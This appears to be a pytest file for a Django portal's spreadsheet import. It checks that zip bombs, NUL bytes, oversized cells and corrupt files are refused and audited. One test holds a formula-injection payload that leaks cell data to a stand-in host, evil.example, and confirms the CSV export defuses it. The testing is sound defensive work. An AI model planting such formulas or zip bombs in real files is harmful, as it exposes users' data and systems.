"""Hostile or broken files: a named cell or problem, nothing written, never a 500 or a traceback,
the same audit row from the admin and the command; the public CSV defuses imported formulas."""

import csv
import io
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command
from django.urls import reverse

from audit.models import AuditEvent, Event
from enforcement.importer import COMMAND_LINE, decisions_import
from enforcement.models import Decision
from enforcement.tests.test_import import HEADER, csv_bytes, licence_row, penalty_row, xlsx
from lushan_portal.spreadsheets import (
    ERROR_CELL_NUL,
    ERROR_CELL_TOO_LONG,
    ERROR_FILE_TOO_LARGE,
    ERROR_UNCOMPRESSED_TOO_LARGE,
    MAX_CELL_CHARS,
    MAX_FILE_BYTES,
    MAX_UNCOMPRESSED_BYTES,
)
from lushan_portal.tests.bad_files import SHEET, edit_entry, huge_cell, with_broken_sheet_xml, with_dimension, zip_bomb

pytestmark = pytest.mark.django_db

FACTS_HEADER = [*HEADER, "违法事实"]  # 违法事实 is column N


def with_facts(row: list[object], facts: str) -> list[object]:
    return [*row, facts]


def long_facts_file() -> bytes:
    # openpyxl cuts what it writes to Excel's limit, so the long text goes into the XML.
    placeholder = xlsx([with_facts(penalty_row("长1号"), "PLACEHOLDER")], header=FACTS_HEADER)
    long_text = "".join(chr(0x4E00 + n % 20000) for n in range(2 * MAX_CELL_CHARS))  # not compressible 100×
    return edit_entry(placeholder, SHEET, lambda xml: xml.replace(b"PLACEHOLDER", long_text.encode()))


BAD_FILES = {
    "invalid-kind": (
        lambda: xlsx([penalty_row("类1号", 类型="行政奖励")]),
        "d.xlsx",
        "第 2 行：“类型”（A2）：类型“行政奖励”不在规定范围内（可选：行政许可、行政处罚、行政强制）",
    ),
    "invalid-licence-category": (
        lambda: xlsx([[*licence_row("许9号")[:9], "特别", *licence_row("许9号")[10:]]]),
        "d.xlsx",
        "第 2 行：“许可类别”（J2）：许可类别“特别”不在规定范围内（可选：普通、特许、认可、核准、登记、其他）",
    ),
    "corrupt-sheet-xml": (
        lambda: with_broken_sheet_xml(xlsx([penalty_row("坏1号"), penalty_row("坏2号")])),
        "d.xlsx",
        "Excel 文件已损坏：第 2 行之后的内容无法读取",
    ),
    "nul-byte": (
        lambda: csv_bytes([penalty_row("空1号", 行政相对人名称="鲁山县\x00公司")]),
        "d.csv",
        ERROR_CELL_NUL.format(row=2, column="B"),
    ),
    "zip-bomb": (
        lambda: zip_bomb(HEADER, mebibytes=1024),
        "d.xlsx",
        ERROR_UNCOMPRESSED_TOO_LARGE.format(size="1024.0 MB", limit=f"{MAX_UNCOMPRESSED_BYTES >> 20}.0 MB"),
    ),
    "100-mb-cell": (
        lambda: huge_cell(FACTS_HEADER, column=13, mebibytes=100),
        "d.xlsx",
        "Excel 文件中的 xl/worksheets/sheet1.xml 解压后是压缩大小的",
    ),
    "cell-over-the-limit": (
        long_facts_file,
        "d.xlsx",
        ERROR_CELL_TOO_LONG.format(row=2, column="N", length=2 * MAX_CELL_CHARS, limit=MAX_CELL_CHARS),
    ),
}


def failures() -> list[tuple[str, str]]:
    return list(AuditEvent.objects.filter(event=Event.IMPORT, result="failure").values_list("username", "detail"))


@pytest.mark.parametrize("case", BAD_FILES)
def test_a_bad_file_is_refused_by_the_admin_with_its_message_and_nothing_written(client, editor_a, unit_a, case):
    build, name, message = BAD_FILES[case]
    client.force_login(editor_a)
    upload = io.BytesIO(build())
    upload.name = name
    page = client.post(reverse("admin:enforcement_decision_import"), {"unit": unit_a.pk, "file": upload})
    assert page.status_code == 200
    assert "文件未导入" in page.content.decode() and message in page.content.decode()
    assert not Decision.objects.exists() and not Decision.history.exists()
    assert failures() == [("editor-a", f"{unit_a.code} {name}：未导入（1 处错误）")]


@pytest.mark.parametrize("case", BAD_FILES)
def test_a_bad_file_is_refused_by_the_command_without_a_traceback(unit_a, tmp_path: Path, case):
    build, name, message = BAD_FILES[case]
    path = tmp_path / name
    path.write_bytes(build())
    with pytest.raises(CommandError) as refused:
        call_command("import_enforcement", str(path), "--unit", unit_a.code)
    assert message in str(refused.value)
    assert not Decision.objects.exists()
    assert failures() == [(COMMAND_LINE, f"{unit_a.code} {name}：未导入（1 处错误）")]


def test_a_stale_dimension_imports_every_row_not_just_the_first(unit_a):
    rows = [penalty_row(f"维{n}号") for n in range(1, 7)]
    stale = with_dimension(xlsx(rows), "A1:M2")  # says: a header and one row
    result = decisions_import(unit=unit_a, name="d.xlsx", content=stale, publish=False)
    assert result.created == 6
    assert Decision.objects.count() == 6


def test_the_command_writes_the_same_audit_row_as_the_admin(client, editor_a, unit_a, tmp_path: Path):
    client.force_login(editor_a)
    upload = io.BytesIO(xlsx([penalty_row("后台9号")]))
    upload.name = "a.xlsx"
    client.post(reverse("admin:enforcement_decision_import"), {"unit": unit_a.pk, "file": upload})
    path = tmp_path / "a.xlsx"
    path.write_bytes(xlsx([penalty_row("命令9号"), licence_row("命令许9号")]))
    call_command("import_enforcement", str(path), "--unit", unit_a.code, "--draft", stdout=io.StringIO())
    path.write_bytes(xlsx([penalty_row("命令10号")]))
    call_command("import_enforcement", str(path), "--unit", unit_a.code, "--by", "editor-a", stdout=io.StringIO())
    rows = AuditEvent.objects.filter(event=Event.IMPORT).order_by("id").values_list("username", "result", "detail")
    assert list(rows) == [
        ("editor-a", "success", f"{unit_a.code} a.xlsx：1 条，公开 1 条"),
        (COMMAND_LINE, "success", f"{unit_a.code} a.xlsx：2 条，公开 0 条"),
        ("editor-a", "success", f"{unit_a.code} a.xlsx：1 条，公开 1 条"),
    ]
    assert Decision.objects.get(decision_number="命令10号").created_by == editor_a
    with pytest.raises(CommandError, match="没有名为“nobody”的在用账号"):
        call_command("import_enforcement", str(path), "--unit", unit_a.code, "--by", "nobody")


def test_the_public_export_defuses_a_formula_that_came_in_with_an_import(client, unit_a, editor_a):
    formula = '=HYPERLINK("https://evil.example/?"&A1,"详情")'
    content = csv_bytes([penalty_row("公式1号", 行政相对人名称=formula)])
    decisions_import(unit=unit_a, name="d.csv", content=content, by=editor_a)
    assert Decision.objects.get().party_name == formula  # stored as typed; defused on the way out
    response = client.get(reverse("enforcement:export"))
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    names = [row[rows[0].index("行政相对人名称")] for row in rows[1:]]
    assert names == ["'" + formula]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_an_oversized_upload_is_refused_before_it_is_read(client, editor_a, unit_a):
    client.force_login(editor_a)
    upload = io.BytesIO(b"a" * (MAX_FILE_BYTES + 1))
    upload.name = "big.csv"
    page = client.post(reverse("admin:enforcement_decision_import"), {"unit": unit_a.pk, "file": upload})
    limit = f"{MAX_FILE_BYTES >> 20}.0 MB"
    assert ERROR_FILE_TOO_LARGE.format(size=limit, limit=limit) in page.content.decode()
    assert not Decision.objects.exists()
